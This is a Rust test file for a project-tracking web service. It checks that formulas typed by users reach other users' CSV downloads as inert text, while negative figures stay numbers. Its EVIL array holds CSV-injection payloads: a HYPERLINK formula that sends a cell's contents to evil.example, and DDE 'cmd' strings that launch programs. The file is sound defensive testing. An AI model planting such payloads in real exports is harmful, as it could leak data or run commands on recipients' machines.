//! CSV downloads never carry a live spreadsheet formula (issue 13 item 8):
//! text one user types (a project's name, a difficulty's topic, an
//! update's note) that starts with `=`, `+`, `-`, `@` or a tab reaches
//! another user's CSV as text (a leading apostrophe); figures the system
//! writes, negative numbers included, stay numbers.

use serde_json::{Value, json};

use crate::support::{TestApp, request};

/// Cells a user typed, each one a formula in a spreadsheet.
const EVIL: [&str; 4] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Xem chi tiết\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "\t=1+1",
];

async fn post_json(app: &TestApp, path: &str, who: &(String, String), body: &Value) -> u16 {
    request(
        app.addr,
        "POST",
        path,
        &[
            ("content-type", "application/json"),
            ("cookie", &who.0),
            ("x-csrf-token", &who.1),
        ],
        body.to_string().as_bytes(),
    )
    .await
    .status
}

fn project(id: &str, name: &str, investor: &str) -> Value {
    json!({
        "id": id,
        "name": name,
        "level": "provincial",
        "place": { "boundary": "2025", "provinces": ["24"] },
        "sector": "industrial_park",
        "investor": investor,
        "total_investment": 1200.0,
        "capital": { "private": 1000.0 },
        "agency": "Sở Công Thương",
        "milestones": [{ "code": "khoi_cong", "name": "Khởi công", "agency": null,
            "baseline": "2030-01-01", "replans": [], "actual": null }],
        "site_clearance": null,
        "procedures": [],
        "disbursement": [],
        "blockers": [],
        "updates": [],
        "earned_value": [],
        "synthetic": false
    })
}

/// Every cell of a CSV download (after its byte-order mark).
fn cells(body: &[u8]) -> Vec<String> {
    let text = std::str::from_utf8(body).unwrap();
    let text = text.trim_start_matches('\u{feff}');
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes())
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect()
}

fn assert_inert(what: &str, cells: &[String]) {
    for c in cells {
        let first = c.chars().next();
        let formula = matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r'))
            && !congthuong_core::spreadsheet::is_plain_number(c);
        assert!(!formula, "{what}: a live formula {c:?}");
    }
}

#[tokio::test]
async fn formulas_typed_by_one_user_reach_another_users_csv_as_text() {
    let app = TestApp::spawn().await;
    app.add_user("officer", "officer", Some("24"), "officer-pass-1");
    app.add_user("reader", "viewer", None, "reader-pass-1");
    let officer = app.login("officer", "officer-pass-1").await;
    for (i, evil) in EVIL.iter().enumerate() {
        let status = post_json(
            &app,
            "/api/v1/projects?reason=test",
            &officer,
            &project(&format!("EV-{i}"), evil, EVIL[(i + 1) % EVIL.len()]),
        )
        .await;
        assert_eq!(status, 201, "project {i}");
        let status = post_json(
            &app,
            "/api/v1/difficulties",
            &officer,
            &json!({
                "raised_by": evil, "raiser_kind": "business", "topic": EVIL[(i + 2) % EVIL.len()],
                "province": "24", "agency": "Sở Công Thương", "deadline": "2030-01-01"
            }),
        )
        .await;
        assert_eq!(status, 201, "difficulty {i}");
    }
    let reader = app.login("reader", "reader-pass-1").await;
    for path in [
        "/api/v1/projects?format=csv",
        "/api/v1/projects/late?format=csv&group=north_28",
        "/api/v1/difficulties?format=csv&today=2031-01-01",
    ] {
        let r = request(app.addr, "GET", path, &[("cookie", &reader.0)], b"").await;
        assert_eq!(r.status, 200, "{path}: {}", r.text());
        let all = cells(&r.body);
        assert_inert(path, &all);
        if path != "/api/v1/projects/late?format=csv&group=north_28" {
            // The text is all there, as text (the registers trim what is typed).
            for evil in EVIL {
                assert!(
                    all.iter().any(|c| *c == format!("'{}", evil.trim())),
                    "{path}: {evil:?} kept as text in {all:?}"
                );
            }
        }
    }
}

#[tokio::test]
async fn negative_figures_stay_numbers_in_the_figure_downloads() {
    let app = TestApp::spawn().await;
    let r = app
        .get("/api/v1/overview?period=2025-06&boundaries=pre2025&format=csv")
        .await;
    let all = cells(&r.body);
    assert_inert("overview", &all);
    assert!(
        all.iter()
            .any(|c| c.starts_with('-') && congthuong_core::spreadsheet::is_plain_number(c)),
        "the sample has falling provinces, written as plain negative numbers"
    );
    assert!(!all.iter().any(|c| c.starts_with("'-")));
}
